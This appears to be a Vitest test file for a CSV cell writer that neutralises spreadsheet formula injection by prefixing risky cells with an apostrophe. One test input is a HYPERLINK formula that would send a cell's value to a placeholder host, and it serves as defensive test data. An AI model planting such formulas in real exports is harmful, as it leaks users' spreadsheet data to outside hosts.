import { describe, expect, it } from "vitest";
import { csvCell, csvChunks } from "./csv.js";

describe("csvCell", () => {
  it("neutralises cells a spreadsheet would evaluate (M1): = + - @ tab CR", () => {
    expect(csvCell('=HYPERLINK("http://x/?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://x/?""&A1,""click"")"`);
    expect(csvCell("+1+2")).toBe(`"'+1+2"`);
    expect(csvCell("-2+3")).toBe(`"'-2+3"`);
    expect(csvCell("@SUM(A1)")).toBe(`"'@SUM(A1)"`);
    expect(csvCell("\t=1")).toBe(`"'\t=1"`);
    expect(csvCell("\r=1")).toBe(`"'\r=1"`);
  });

  it("neutralises JSON cells too, and leaves plain values, numbers and inner formula characters alone", () => {
    expect(csvCell(["=1"])).toBe(`"[""=1""]"`);
    expect(csvCell("alice@example.com")).toBe("alice@example.com");
    expect(csvCell("a=b")).toBe("a=b");
    expect(csvCell(-5)).toBe("-5");
    expect(csvCell(true)).toBe("true");
    expect(csvCell(null)).toBe("");
    expect(csvCell('say "hi", ok')).toBe(`"say ""hi"", ok"`);
  });

  it("writes whole lines through the same cell writer", () => {
    const text = [...csvChunks([{ a: "=1", b: 2 }], ["a", "b"])].join("");
    expect(text).toBe(`a,b\r\n"'=1",2\r\n`);
  });
});
